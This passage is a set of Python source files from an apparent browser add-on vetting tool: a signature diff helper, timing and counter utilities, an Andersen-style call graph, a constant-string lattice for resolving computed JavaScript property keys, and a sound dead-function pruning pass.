            continue
        kind = classify_entry_change(previous, entry, lattice)
        counterpart = _closest(previous, entry, lattice)
        changes.append(EntryChange(kind=kind, old=counterpart, new=entry))

    for key, previous in sorted(old_by_key.items()):
        if key in new_keys:
            continue
        for entry in sorted(previous, key=lambda e: e.render()):
            changes.append(EntryChange(kind="removed-flow", old=entry))
    return SignatureDiff(changes=changes)


def _closest(
    candidates: set[Entry], entry: Entry, lattice: FlowTypeLattice
) -> Entry:
    """The old-version entry to display against ``entry``: itself when
    unchanged, else a covering entry when one exists, else any same-key
    entry (deterministically the first in render order)."""
    from repro.signatures.compare import entry_covers

    if entry in candidates:
        return entry
    ordered = sorted(candidates, key=lambda e: e.render())
    for candidate in ordered:
        if entry_covers(candidate, entry, lattice):
            return candidate
    return ordered[0]
