"""Lightweight performance observability shared across the pipeline.

Two small pieces every layer can agree on without import cycles:

- :class:`PhaseTimes` — the paper's P1/P2/P3 wall-time split (Section
  6.2), used by ``api.vet``, the timing harness, the batch engine, and
  the bench command;
- :class:`Counters` — a plain named-integer bag for hot-path statistics
  (fixpoint steps, states created, joins, PDG edges, ...). Counters are
  pure observation: they never feed back into analysis decisions, so
  enabling them cannot change any signature.
"""

from __future__ import annotations

import statistics
from dataclasses import dataclass


@dataclass
class PhaseTimes:
    """One addon's phase timings, in seconds."""

    p1: float
    p2: float
    p3: float

    @property
    def total(self) -> float:
        return self.p1 + self.p2 + self.p3

    def as_dict(self) -> dict[str, float]:
        return {"p1": self.p1, "p2": self.p2, "p3": self.p3, "total": self.total}

    def render(self) -> str:
        return (
            f"P1 {self.p1:.3f}s | P2 {self.p2:.3f}s | P3 {self.p3:.3f}s"
            f" (total {self.total:.3f}s)"
        )


def kept_samples(
    samples: list[PhaseTimes], discard_first: bool = True
) -> list[PhaseTimes]:
    """The samples the paper's protocol actually aggregates: everything
    after the warm-up discard — which only happens when there *is* a
    sample to spare. With a single sample, nothing is discarded."""
    if discard_first and len(samples) > 1:
        return list(samples[1:])
    return list(samples)


def median_report(
    samples: list[PhaseTimes], discard_first: bool = True
) -> tuple[PhaseTimes, int]:
    """The per-phase medians *and how many samples they summarize*.

    The kept-sample count travels with the number because a "median"
    of one post-warm-up sample (``runs=2`` with the discard) is just
    that sample — reporting it as a median with no sample count invites
    misreading downstream (BENCH_corpus.json carries the count per
    addon since v4). Raises ``ValueError`` on an empty sample list: a
    protocol that produced no timing runs has no statistic to report,
    and silently inventing one would be worse than failing.
    """
    if not samples:
        raise ValueError(
            "median_report: no timing samples (runs must be >= 1)"
        )
    kept = kept_samples(samples, discard_first)
    times = PhaseTimes(
        p1=statistics.median(sample.p1 for sample in kept),
        p2=statistics.median(sample.p2 for sample in kept),
        p3=statistics.median(sample.p3 for sample in kept),
    )
    return times, len(kept)


def median_times(samples: list[PhaseTimes], discard_first: bool = True) -> PhaseTimes:
    """The paper's protocol: discard the first sample (warm-up), report
    the per-phase median of the rest. See :func:`median_report` for the
    variant that also reports how many samples the median summarizes."""
    times, _ = median_report(samples, discard_first)
    return times


class Counters(dict):
    """A ``dict[str, int]`` with a convenient increment. Kept as a plain
    dict subclass so it serializes as-is (JSON, pickle across the
    process pool) and merges with ``update``."""

    def bump(self, name: str, amount: int = 1) -> None:
        self[name] = self.get(name, 0) + amount

    def merged(self, other: dict[str, int]) -> "Counters":
        merged = Counters(self)
        for name, amount in other.items():
            merged[name] = merged.get(name, 0) + amount
        return merged
