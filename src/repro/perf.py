"""Lightweight performance observability shared across the pipeline.

Two small pieces every layer can agree on without import cycles:

- :class:`PhaseTimes` — the paper's P1/P2/P3 wall-time split (Section
  6.2), used by ``api.vet``, the timing harness, the batch engine, and
  the bench command;
- :class:`Counters` — a plain named-integer bag for hot-path statistics
  (fixpoint steps, states created, joins, PDG edges, ...). Counters are
  pure observation: they never feed back into analysis decisions, so
  enabling them cannot change any signature.
"""

from __future__ import annotations

import statistics
from dataclasses import dataclass


@dataclass
class PhaseTimes:
    """One addon's phase timings, in seconds."""

    p1: float
    p2: float
    p3: float

    @property
    def total(self) -> float:
        return self.p1 + self.p2 + self.p3

    def as_dict(self) -> dict[str, float]:
        return {"p1": self.p1, "p2": self.p2, "p3": self.p3, "total": self.total}

    def render(self) -> str:
        return (
            f"P1 {self.p1:.3f}s | P2 {self.p2:.3f}s | P3 {self.p3:.3f}s"
            f" (total {self.total:.3f}s)"
        )


def median_times(samples: list[PhaseTimes], discard_first: bool = True) -> PhaseTimes:
    """The paper's protocol: discard the first sample (warm-up), report
    the per-phase median of the rest."""
    kept = samples[1:] if discard_first and len(samples) > 1 else samples
    return PhaseTimes(
        p1=statistics.median(sample.p1 for sample in kept),
        p2=statistics.median(sample.p2 for sample in kept),
        p3=statistics.median(sample.p3 for sample in kept),
    )


class Counters(dict):
    """A ``dict[str, int]`` with a convenient increment. Kept as a plain
    dict subclass so it serializes as-is (JSON, pickle across the
    process pool) and merges with ``update``."""

    def bump(self, name: str, amount: int = 1) -> None:
        self[name] = self.get(name, 0) + amount

    def merged(self, other: dict[str, int]) -> "Counters":
        merged = Counters(self)
        for name, amount in other.items():
            merged[name] = merged.get(name, 0) + amount
        return merged
