"""Andersen-style (flow- and context-insensitive) call graph.

Function values propagate through *name bindings*: ``function f(){}``
binds ``f``; ``var g = function(){}`` and ``g = function(){}`` bind
``g``; ``obj.m = function(){}`` and ``{m: function(){}}`` bind the
property name ``m``; a named function expression binds its own name for
recursion. A call site's callee set is then every function its callee
*name* can denote (for ``x.m()``, every function bound to property name
``m`` anywhere — the Andersen collapse of field-sensitivity onto field
*names*).

Reachability is reference-closure from the top level: a function is
reachable when it is referenced — called, passed as an argument (event
or message handler registration), assigned, or mentioned — from
top-level code or from inside another reachable function. The event
loop needs no special casing under this rule: a handler can only be
dispatched after a registration call mentions it (by name or inline),
which is exactly a reference from reachable code. A *declaration* whose
name is never mentioned in reachable code is therefore invokable by
nothing — the basis for the CG001 lint rule and the same criterion the
pruning pass re-derives (over the weaker "referenced anywhere" closure;
see :mod:`repro.preanalysis.prune`).

The graph is advisory for lint and counters. The *pruning* decision
deliberately does not consume reachability — only the reference-liveness
fixpoint — because removing a referenced-but-unreachable declaration
would change what the lowered program's statements mention.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from repro.js import ast as js_ast
from repro.js.errors import Span
from repro.lint.rules import callee_name, static_property_name

FunctionNode = js_ast.FunctionDeclaration | js_ast.FunctionExpression

#: Virtual caller id for top-level code.
TOP_LEVEL = -1


@dataclass(frozen=True)
class FunctionInfo:
    """One function in the table."""

    fid: int
    name: str | None
    kind: str  # "declaration" | "expression"
    span: Span
    node_count: int


@dataclass(frozen=True)
class CallSite:
    """One call/new expression and the functions it can invoke."""

    caller: int  # fid of the enclosing function, or TOP_LEVEL
    callee_name: str | None  # identifier or static property name, if any
    callees: frozenset[int]
    span: Span


@dataclass
class CallGraph:
    """The solved call graph of one (possibly multi-file) program."""

    functions: tuple[FunctionInfo, ...] = ()
    sites: tuple[CallSite, ...] = ()
    #: fids referenced (transitively) from top-level code — the
    #: functions *some* execution of the machine could ever enter.
    reachable: frozenset[int] = frozenset()
    #: Names bound to at least one function value.
    bound_names: frozenset[str] = frozenset()
    #: All names the program binds in any way (vars, params, catch,
    #: for-in, function names) — a call to a name outside this set and
    #: outside the environment cannot invoke anything but UNDEF.
    program_bindings: frozenset[str] = frozenset()

    @property
    def edges(self) -> int:
        return sum(len(site.callees) for site in self.sites)

    def unreachable_declarations(self) -> list[FunctionInfo]:
        """Named functions no reachable code references (CG001)."""
        return [
            info
            for info in self.functions
            if info.name is not None and info.fid not in self.reachable
        ]


def _span(node: js_ast.Node) -> Span:
    return Span.at(node.position)


def build_callgraph(programs: Iterable[js_ast.Program]) -> CallGraph:
    programs = tuple(programs)
    functions: list[FunctionInfo] = []
    fid_of: dict[int, int] = {}  # id(ast node) -> fid
    nodes: list[FunctionNode] = []

    for program in programs:
        for node in program.walk():
            if isinstance(node, (js_ast.FunctionDeclaration, js_ast.FunctionExpression)):
                fid = len(functions)
                fid_of[id(node)] = fid
                nodes.append(node)
                functions.append(
                    FunctionInfo(
                        fid=fid,
                        name=node.name or None,
                        kind=(
                            "declaration"
                            if isinstance(node, js_ast.FunctionDeclaration)
                            else "expression"
                        ),
                        span=_span(node),
                        node_count=js_ast.node_count(node),
                    )
                )

    # ------------------------------------------------------------------
    # Name bindings: which names can denote which function values.
    bound_to: dict[str, set[int]] = {}
    program_bindings: set[str] = set()

    def bind(name: str, target: js_ast.Expression) -> None:
        if isinstance(target, js_ast.FunctionExpression):
            bound_to.setdefault(name, set()).add(fid_of[id(target)])

    for program in programs:
        for node in program.walk():
            if isinstance(node, js_ast.FunctionDeclaration):
                bound_to.setdefault(node.name, set()).add(fid_of[id(node)])
                program_bindings.add(node.name)
                program_bindings.update(node.params)
            elif isinstance(node, js_ast.FunctionExpression):
                if node.name:
                    bound_to.setdefault(node.name, set()).add(fid_of[id(node)])
                    program_bindings.add(node.name)
                program_bindings.update(node.params)
            elif isinstance(node, js_ast.VariableDeclarator):
                program_bindings.add(node.name)
                if node.init is not None:
                    bind(node.name, node.init)
            elif isinstance(node, js_ast.AssignmentExpression):
                if isinstance(node.target, js_ast.Identifier):
                    program_bindings.add(node.target.name)
                    bind(node.target.name, node.value)
                elif isinstance(node.target, js_ast.MemberExpression):
                    prop = static_property_name(node.target)
                    if prop is not None:
                        bind(prop, node.value)
            elif isinstance(node, js_ast.Property):
                bind(node.key, node.value)
            elif isinstance(node, js_ast.ForInStatement):
                program_bindings.add(node.variable)
            elif isinstance(node, js_ast.CatchClause):
                program_bindings.add(node.param)

    # ------------------------------------------------------------------
    # Ownership: the enclosing *declaration* region of every node. A
    # function expression's body belongs to the region that contains it
    # (it can run whenever that region runs); a nested declaration opens
    # its own region (it runs only if something references its name).
    owner_of: dict[int, int] = {}

    def assign_owner(node: js_ast.Node, region: int) -> None:
        owner_of[id(node)] = region
        for child in node.children():
            if isinstance(child, js_ast.FunctionDeclaration):
                assign_owner(child, fid_of[id(child)])
            else:
                assign_owner(child, region)

    for program in programs:
        owner_of[id(program)] = TOP_LEVEL
        for statement in program.body:
            if isinstance(statement, js_ast.FunctionDeclaration):
                assign_owner(statement, fid_of[id(statement)])
            else:
                assign_owner(statement, TOP_LEVEL)

    # A function expression is *activated* with its region; a nested
    # declaration is activated when its name is referenced from an
    # active region. References are identifier mentions plus property
    # names that some binding ties to a function.
    mentions: dict[int, set[str]] = {}  # region -> names mentioned
    inline: dict[int, set[int]] = {}  # region -> expression fids inside it

    for program in programs:
        for node in program.walk():
            region = owner_of[id(node)]
            if isinstance(node, js_ast.Identifier):
                mentions.setdefault(region, set()).add(node.name)
            elif isinstance(node, js_ast.MemberExpression):
                prop = static_property_name(node)
                if prop is not None:
                    mentions.setdefault(region, set()).add(prop)
            elif isinstance(node, js_ast.FunctionExpression):
                inline.setdefault(region, set()).add(fid_of[id(node)])

    reachable: set[int] = set()
    frontier = [TOP_LEVEL]
    while frontier:
        region = frontier.pop()
        for fid in inline.get(region, ()):
            if fid not in reachable:
                reachable.add(fid)
                frontier.append(fid)
        # A mention only activates *declarations*: a function expression
        # value exists only after the statement carrying it ran, i.e.
        # after the inline rule already activated it with its region.
        for name in mentions.get(region, ()):
            for fid in bound_to.get(name, ()):
                if fid not in reachable and isinstance(
                    nodes[fid], js_ast.FunctionDeclaration
                ):
                    reachable.add(fid)
                    frontier.append(fid)

    # ------------------------------------------------------------------
    # Call sites.
    sites: list[CallSite] = []
    for program in programs:
        for node in program.walk():
            if isinstance(node, (js_ast.CallExpression, js_ast.NewExpression)):
                name = callee_name(node.callee)
                if name is None and isinstance(node.callee, js_ast.MemberExpression):
                    name = static_property_name(node.callee)
                callees: frozenset[int]
                if isinstance(node.callee, js_ast.FunctionExpression):
                    callees = frozenset({fid_of[id(node.callee)]})
                elif name is not None:
                    callees = frozenset(bound_to.get(name, ()))
                else:
                    callees = frozenset()
                sites.append(
                    CallSite(
                        caller=owner_of[id(node)],
                        callee_name=name,
                        callees=callees,
                        span=_span(node),
                    )
                )

    return CallGraph(
        functions=tuple(functions),
        sites=tuple(sites),
        reachable=frozenset(reachable),
        bound_names=frozenset(bound_to),
        program_bindings=frozenset(program_bindings),
    )
