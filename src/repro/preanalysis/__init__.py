"""Flow-insensitive whole-program pre-analysis (PR: resolution &
reachability).

Three cooperating passes that run between parsing and lowering, in the
spirit of JSAI's cheap specialization pre-passes:

- **computed-property resolution** — a constant-string lattice over
  :mod:`repro.domains.stringset` resolves ``obj[k]`` sites to finite
  name sets where provable, so the relevance prefilter only refuses on
  the truly dynamic residue;
- **points-to / call graph** — Andersen-style name-binding constraints
  give a callee set per call site and an entry-reachable function set
  (lint rules CG001/CG002, counters);
- **sound pruning** — top-level functions no live code references are
  removed before lowering, signature-preservation proven bit-identical
  corpus-wide, with a typed refusal ladder mirroring the prefilter's.

See DESIGN.md §5j for the constraint rules and the soundness argument.
"""

from repro.preanalysis.callgraph import CallGraph, CallSite, FunctionInfo, build_callgraph
from repro.preanalysis.constants import (
    KEY_BOTTOM,
    KEY_TOP,
    KEY_UNDEFINED,
    ConstantStringEnv,
    KeyValue,
    environment_global_names,
    key_plus,
    key_string,
    solve_environment,
)
from repro.preanalysis.pipeline import (
    Preanalysis,
    Resolution,
    preanalyze,
    resolve_computed_sites,
)
from repro.preanalysis.prune import PruneDecision, PruneResult, prune_programs

__all__ = [
    "KEY_BOTTOM",
    "KEY_TOP",
    "KEY_UNDEFINED",
    "CallGraph",
    "CallSite",
    "ConstantStringEnv",
    "FunctionInfo",
    "KeyValue",
    "Preanalysis",
    "PruneDecision",
    "PruneResult",
    "Resolution",
    "build_callgraph",
    "environment_global_names",
    "key_plus",
    "key_string",
    "preanalyze",
    "prune_programs",
    "resolve_computed_sites",
    "solve_environment",
]
