"""The constant-string lattice behind computed-property resolution.

A computed access ``obj[k]`` defeats the relevance prefilter today: the
surface scan cannot bound which property it names, so one such site
flips ``Surface.dynamic_properties`` for the whole addon. This module
recovers the common benign shape — ``k`` is a constant string, or a
join/concatenation of constant strings — with a flow-insensitive
whole-program fixpoint over a small lattice:

    KeyValue = (tostr : StringSet, surely_string : bool)

``tostr`` over-approximates ``ToString(v)`` for every value ``v`` the
expression can produce *in the abstract machine* (the interpreter of
:mod:`repro.analysis`, whose property reads coerce keys through
:meth:`AbstractValue.to_property_name`); ``surely_string`` records that
every such value is a string primitive, which is what licenses treating
JavaScript ``+`` as concatenation.

Soundness is with respect to the abstract machine, name by name:

- a name bound by the *environment* (``window``, ``document``,
  ``chrome``, the builtin globals, ...) can hold objects whose string
  coercion the machine tracks as ⊤ — such names are pinned to ⊤ here
  (:func:`environment_global_names` enumerates them from the real
  environment setup, so the list cannot drift);
- a name ever bound as a function parameter, catch parameter, or
  ``for-in`` variable receives machine values we do not model — ⊤;
- a name assigned only expressions this lattice can evaluate gets the
  join of those evaluations, *plus* ``"undefined"`` at every read site
  (hoisted reads observe the pre-assignment ``undefined``; the machine
  reads unassigned variables as UNDEF, whose property-name coercion is
  exactly ``"undefined"``);
- everything else (calls, member reads, arithmetic, ...) evaluates
  to ⊤.

The fixpoint is join-only over a finite-height lattice (``StringSet``
normalizes over-budget sets to a single joined prefix, and prefix
concatenation is absorbing on the non-exact side), and a pass cap with
widening-to-⊤ backstops termination regardless.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from repro.domains import numbers
from repro.domains.stringset import StringSet
from repro.js import ast as js_ast

#: Passes of the round-robin constraint solver before the still-unstable
#: names are widened to ⊤. Join-only iteration converges far earlier in
#: practice; the cap is a termination backstop, not a tuning knob.
SOLVER_PASS_CAP = 16

#: Disjunction budget of the resolution ``StringSet``s. Wider than the
#: inference default (3) because a resolved key set feeds the *surface*,
#: where extra names only cost prefilter precision — a benign ``k`` that
#: ranges over half a dozen constants should still resolve.
RESOLUTION_BOUND = 8


def _exact(text: str) -> StringSet:
    return StringSet.exact(text, RESOLUTION_BOUND)

#: Names whose reads are never resolved even when the program also binds
#: them: the machine may hand them values we do not model. ``arguments``
#: is the callee's argument object; ``NaN``/``Infinity``/``undefined``
#: are global value names (the parser folds ``undefined`` into a
#: literal, but a shadowing ``var undefined`` would bring it back as an
#: identifier).
_ALWAYS_TOP_NAMES = frozenset({"arguments", "undefined", "NaN", "Infinity", "this"})


@dataclass(frozen=True)
class KeyValue:
    """One element of the resolution lattice."""

    #: Sound over-approximation of ``ToString(v)`` for every possible
    #: value ``v``.
    tostr: StringSet
    #: Every possible value is a string primitive (licenses ``+`` as
    #: concatenation). ``True`` is the *more precise* claim, so the
    #: lattice order reads ``True ⊑ False``.
    surely_string: bool

    def leq(self, other: "KeyValue") -> bool:
        if not self.tostr.leq(other.tostr):
            return False
        return self.surely_string or not other.surely_string

    def join(self, other: "KeyValue") -> "KeyValue":
        return KeyValue(
            tostr=self.tostr.join(other.tostr),
            surely_string=self.surely_string and other.surely_string,
        )

    def meet(self, other: "KeyValue") -> "KeyValue":
        return KeyValue(
            tostr=self.tostr.meet(other.tostr),
            surely_string=self.surely_string or other.surely_string,
        )

    def concretes(self) -> set[str] | None:
        """The finite set of strings this key can coerce to, or ``None``
        when any component is non-exact (prefix / ⊤)."""
        return self.tostr.concretes()


KEY_BOTTOM = KeyValue(tostr=StringSet.bottom(RESOLUTION_BOUND), surely_string=True)
KEY_TOP = KeyValue(tostr=StringSet.top(RESOLUTION_BOUND), surely_string=False)
KEY_UNDEFINED = KeyValue(tostr=_exact("undefined"), surely_string=False)


def key_string(text: str) -> KeyValue:
    return KeyValue(tostr=_exact(text), surely_string=True)


def key_plus(left: KeyValue, right: KeyValue) -> KeyValue:
    """JavaScript ``+`` on the key lattice.

    When either operand is surely a string, ``+`` is string
    concatenation and the result's ``ToString`` is the concatenation of
    the operands' ``ToString`` sets (string + anything coerces the other
    side through ``ToString``). Otherwise the operation may be numeric
    addition, whose string form we do not track — ⊤.
    """
    if left.surely_string or right.surely_string:
        return KeyValue(tostr=left.tostr.concat(right.tostr), surely_string=True)
    return KEY_TOP


def environment_global_names() -> frozenset[str]:
    """Every global name the analysis environments bind before the addon
    runs — enumerated from the *real* setup code, so new environment
    globals can never silently drift out of the resolution blocklist."""
    from repro.analysis import builtins as analysis_builtins
    from repro.browser.chrome import WebExtEnvironment
    from repro.browser.env import BrowserEnvironment
    from repro.domains.state import State
    from repro.ir.nodes import GLOBAL_SCOPE

    names: set[str] = set()
    for setup in (BrowserEnvironment().setup, WebExtEnvironment().setup):
        state = State()
        analysis_builtins.install(state)
        setup(state, None)
        names.update(
            name for scope, name in state.vars.keys() if scope == GLOBAL_SCOPE
        )
    return frozenset(names)


_ENV_GLOBALS_CACHE: frozenset[str] | None = None


def _env_globals() -> frozenset[str]:
    global _ENV_GLOBALS_CACHE
    if _ENV_GLOBALS_CACHE is None:
        _ENV_GLOBALS_CACHE = environment_global_names()
    return _ENV_GLOBALS_CACHE


class ConstantStringEnv:
    """The solved flow-insensitive name → :class:`KeyValue` environment."""

    __slots__ = ("_values", "_blocked")

    def __init__(self, values: dict[str, KeyValue], blocked: frozenset[str]):
        self._values = values
        self._blocked = blocked

    def read(self, name: str) -> KeyValue:
        """The abstract value of reading ``name`` anywhere in the
        program: the join of everything assigned to it, plus the
        hoisted-read ``undefined``."""
        if name in self._blocked:
            return KEY_TOP
        return self._values.get(name, KEY_BOTTOM).join(KEY_UNDEFINED)

    def eval(self, expr: js_ast.Expression) -> KeyValue:
        """Sound ``ToString`` over-approximation of ``expr``."""
        if isinstance(expr, js_ast.StringLiteral):
            return key_string(expr.value)
        if isinstance(expr, js_ast.NumberLiteral):
            rendered = numbers.to_property_string(numbers.constant(expr.value))
            if rendered is None:
                return KEY_TOP
            return KeyValue(tostr=_exact(rendered), surely_string=False)
        if isinstance(expr, js_ast.BooleanLiteral):
            return KeyValue(
                tostr=_exact("true" if expr.value else "false"),
                surely_string=False,
            )
        if isinstance(expr, js_ast.NullLiteral):
            return KeyValue(tostr=_exact("null"), surely_string=False)
        if isinstance(expr, js_ast.UndefinedLiteral):
            return KEY_UNDEFINED
        if isinstance(expr, js_ast.Identifier):
            return self.read(expr.name)
        if isinstance(expr, js_ast.BinaryExpression):
            if expr.operator == "+":
                return key_plus(self.eval(expr.left), self.eval(expr.right))
            return KEY_TOP
        if isinstance(expr, js_ast.LogicalExpression):
            # `a || b` / `a && b` yield one of the operand *values*.
            return self.eval(expr.left).join(self.eval(expr.right))
        if isinstance(expr, js_ast.ConditionalExpression):
            return self.eval(expr.consequent).join(self.eval(expr.alternate))
        if isinstance(expr, js_ast.AssignmentExpression):
            if expr.operator == "=":
                return self.eval(expr.value)
            return KEY_TOP
        if isinstance(expr, js_ast.SequenceExpression):
            if expr.expressions:
                return self.eval(expr.expressions[-1])
            return KEY_TOP
        return KEY_TOP


def solve_environment(programs: Iterable[js_ast.Program]) -> ConstantStringEnv:
    """Collect and solve the flow-insensitive string constraints of a
    whole program (possibly multi-file: constraints union across files,
    matching the conflated global scope of the lowered bundle)."""
    blocked: set[str] = set(_ALWAYS_TOP_NAMES)
    blocked.update(_env_globals())
    constraints: list[tuple[str, js_ast.Expression | None]] = []

    for program in programs:
        for node in program.walk():
            if isinstance(node, js_ast.VariableDeclarator):
                constraints.append((node.name, node.init))
            elif isinstance(node, js_ast.AssignmentExpression):
                if isinstance(node.target, js_ast.Identifier):
                    if node.operator == "=":
                        constraints.append((node.target.name, node.value))
                    else:
                        # Compound assignment mixes the old value with
                        # arithmetic we do not track.
                        blocked.add(node.target.name)
            elif isinstance(node, js_ast.UpdateExpression):
                if isinstance(node.argument, js_ast.Identifier):
                    blocked.add(node.argument.name)
            elif isinstance(node, js_ast.ForInStatement):
                # Enumerates arbitrary property names.
                blocked.add(node.variable)
            elif isinstance(
                node, (js_ast.FunctionDeclaration, js_ast.FunctionExpression)
            ):
                # Parameters receive arbitrary call arguments (including
                # environment-made values at event dispatch); a function
                # name is bound to a closure whose string coercion the
                # machine tracks as ⊤.
                blocked.update(node.params)
                if node.name:
                    blocked.add(node.name)
            elif isinstance(node, js_ast.CatchClause):
                blocked.add(node.param)

    values: dict[str, KeyValue] = {}
    env = ConstantStringEnv(values, frozenset(blocked))
    pending = [
        (name, init)
        for name, init in constraints
        if name not in blocked
    ]
    changed = True
    passes = 0
    while changed and passes < SOLVER_PASS_CAP:
        changed = False
        passes += 1
        for name, init in pending:
            contribution = env.eval(init) if init is not None else KEY_UNDEFINED
            current = values.get(name, KEY_BOTTOM)
            joined = current.join(contribution)
            if joined != current:
                values[name] = joined
                changed = True
    if changed:
        # The pass cap tripped before stabilization: widen every name
        # that still moved to ⊤ rather than ship an under-approximation.
        for name, _init in pending:
            values[name] = KEY_TOP
    return env
