"""The pre-analysis orchestrator: resolve, graph, prune, count.

``preanalyze`` is the single entry the vetting pipeline calls between
parsing and lowering. It runs the three cooperating passes in their
dependency order:

1. computed-property **resolution** (:mod:`repro.preanalysis.constants`)
   — each ``obj[k]`` site either resolves to a finite name set or stays
   a *residual dynamic site*;
2. the **call graph** (:mod:`repro.preanalysis.callgraph`) — advisory:
   lint rules and counters, never signatures;
3. **pruning** (:mod:`repro.preanalysis.prune`) — consumes the
   resolution's residual count for its refusal ladder and its resolved
   name sets for liveness.

Resolution is *whole-program only*: the solved environment assumes it
has seen every assignment to every name, which holds for a full parse
set but not for program fragments. Fragment consumers (the diffvet
change-surface certificate) must keep calling the resolution-free
surface scan.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field

from repro.js import ast as js_ast
from repro.js.errors import Span
from repro.lint.rules import static_property_name
from repro.preanalysis.callgraph import CallGraph, build_callgraph
from repro.preanalysis.constants import solve_environment
from repro.preanalysis.prune import PruneResult, prune_programs


@dataclass
class Resolution:
    """Per-site outcome of computed-property resolution.

    ``resolved`` is keyed by ``id()`` of the ``MemberExpression`` node —
    valid only against the exact AST objects that were preanalyzed (the
    surface scan walks those same objects).
    """

    resolved: dict[int, frozenset[str]] = field(default_factory=dict)
    resolved_spans: tuple[Span, ...] = ()
    residual_spans: tuple[Span, ...] = ()

    @property
    def resolved_sites(self) -> int:
        return len(self.resolved)

    @property
    def residual_sites(self) -> int:
        return len(self.residual_spans)


@dataclass
class Preanalysis:
    """Everything the pre-analysis learned about one program set."""

    resolution: Resolution
    callgraph: CallGraph
    prune: PruneResult
    #: The inputs, post-pruning (identical objects when pruning refused
    #: or found nothing dead).
    programs: tuple[js_ast.Program, ...]

    @property
    def counters(self) -> dict[str, int]:
        return {
            "resolved_sites": self.resolution.resolved_sites,
            "residual_dynamic_sites": self.resolution.residual_sites,
            "pruned_nodes": self.prune.pruned_nodes,
            "callgraph_edges": self.callgraph.edges,
        }

    def render(self) -> str:
        lines = [
            "preanalysis: "
            f"{self.resolution.resolved_sites} computed site(s) resolved, "
            f"{self.resolution.residual_sites} residual dynamic, "
            f"{self.callgraph.edges} call edge(s)",
            self.prune.decision.render()
            + (
                f" ({self.prune.pruned_nodes} node(s) removed: "
                + ", ".join(self.prune.removed)
                + ")"
                if self.prune.removed
                else ""
            ),
        ]
        return "\n".join(lines)


def resolve_computed_sites(
    programs: tuple[js_ast.Program, ...], *, trusted: bool
) -> Resolution:
    """Classify every computed property site with a non-literal key.

    ``trusted`` is False when dynamic code (or a degraded parse) means
    the solved environment may miss assignments — every site is then
    residual by fiat.
    """
    env = solve_environment(programs) if trusted else None
    resolved: dict[int, frozenset[str]] = {}
    resolved_spans: list[Span] = []
    residual_spans: list[Span] = []
    for program in programs:
        for node in program.walk():
            if not isinstance(node, js_ast.MemberExpression) or not node.computed:
                continue
            if static_property_name(node) is not None:
                continue
            names = None
            if env is not None:
                names = env.eval(node.property).concretes()
            span = Span.at(node.position)
            if names is None:
                residual_spans.append(span)
            else:
                resolved[id(node)] = frozenset(names)
                resolved_spans.append(span)
    return Resolution(
        resolved=resolved,
        resolved_spans=tuple(resolved_spans),
        residual_spans=tuple(residual_spans),
    )


def preanalyze(
    programs: Iterable[js_ast.Program], *, degraded: bool = False
) -> Preanalysis:
    """Run the whole pre-analysis over a parsed program set."""
    from repro.lint.surface import nodes_surface

    programs = tuple(programs)
    surface = nodes_surface(programs)
    trusted = not degraded and not surface.dynamic_code
    resolution = resolve_computed_sites(programs, trusted=trusted)
    callgraph = build_callgraph(programs)
    prune = prune_programs(
        programs,
        degraded=degraded,
        dynamic_code=surface.dynamic_code,
        residual_dynamic_sites=resolution.residual_sites,
        resolved=resolution.resolved,
    )
    return Preanalysis(
        resolution=resolution,
        callgraph=callgraph,
        prune=prune,
        programs=prune.programs,
    )
