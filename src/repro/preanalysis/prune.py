"""Sound dead-function pruning (reference liveness, typed refusal).

What may be removed: a *top-level* ``function f() { ... }`` declaration
whose name is never referenced outside itself. The criterion is
deliberately *reference* liveness, not call-graph reachability: the
abstract interpreter only ever analyzes statements reachable from the
program entry, so a function that is never *entered* contributes no
states, no PDG nodes and no signature entries — but its *declaration*
statement still executes at the top level (it allocates the closure and
binds the global name). Removing it is invisible exactly when no live
statement mentions the name:

- no live statement reads the global binding (the only way the machine
  can observe the closure value — global bindings are variables, not
  window properties, so property reads cannot reach them);
- matchers fire only on statements the interpreter visits, and the
  pruned body was only visitable through such a read;
- signatures carry (source, flow type, sink, URL prefix) — nothing
  positional — so renumbering the surviving statements cannot shift the
  rendered artifact.

Mentions are identifier occurrences plus the *resolved* names of
computed property sites (defense in depth; see below). The closure is a
fixpoint because a pruned candidate's own body may hold the only
mention of another candidate.

Typed refusal, mirroring the prefilter's discipline — pruning declines
entirely when any syntactic bound on "mention" is unsound or
incomplete:

- ``degraded-input`` — recovery dropped statements; the AST
  under-approximates the program, so absence-of-mention proves nothing;
- ``dynamic-code`` — ``eval``/``Function``/string timers can mention
  any name at runtime;
- ``dynamic-properties`` — a computed property site the resolver could
  not bound remains; today's machine cannot reach a global function
  through a property read, but refusing keeps the pruning argument
  independent of that machine detail (and costs nothing: such addons
  already take the slow lane).
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from repro.js import ast as js_ast
from repro.lint.rules import static_property_name

#: Refusal reasons, in decision order.
REASON_OK = "ok"
REASON_DEGRADED = "degraded-input"
REASON_DYNAMIC_CODE = "dynamic-code"
REASON_DYNAMIC_PROPERTIES = "dynamic-properties"


@dataclass(frozen=True)
class PruneDecision:
    """Whether pruning ran, and if not, why it refused."""

    pruned: bool
    reason: str

    def render(self) -> str:
        if self.pruned:
            return "pruning: enabled"
        return f"pruning refused: {self.reason}"


@dataclass(frozen=True)
class PruneResult:
    """The pruned program set plus accounting."""

    programs: tuple[js_ast.Program, ...]
    decision: PruneDecision
    #: AST nodes removed (0 when refused or nothing was dead).
    pruned_nodes: int
    #: Names of the removed top-level functions, for reports.
    removed: tuple[str, ...] = ()


def _mentioned_names(
    statement: js_ast.Node, resolved: dict[int, frozenset[str]]
) -> set[str]:
    """Every name ``statement`` can mention: identifiers, static
    property names, object-literal keys, and the resolved name sets of
    computed property sites."""
    names: set[str] = set()
    for node in statement.walk():
        if isinstance(node, js_ast.Identifier):
            names.add(node.name)
        elif isinstance(node, js_ast.MemberExpression):
            prop = static_property_name(node)
            if prop is not None:
                names.add(prop)
            else:
                names.update(resolved.get(id(node), ()))
        elif isinstance(node, js_ast.Property):
            names.add(node.key)
    return names


def prune_programs(
    programs: tuple[js_ast.Program, ...],
    *,
    degraded: bool,
    dynamic_code: bool,
    residual_dynamic_sites: int,
    resolved: dict[int, frozenset[str]] | None = None,
) -> PruneResult:
    """Prune unreferenced top-level function declarations across a
    (possibly multi-file) program, or refuse with a typed reason.

    Liveness is computed over the *union* of all files: webext bundles
    conflate the global scope when lowered, so a name mentioned in any
    component keeps the declaration in every component.
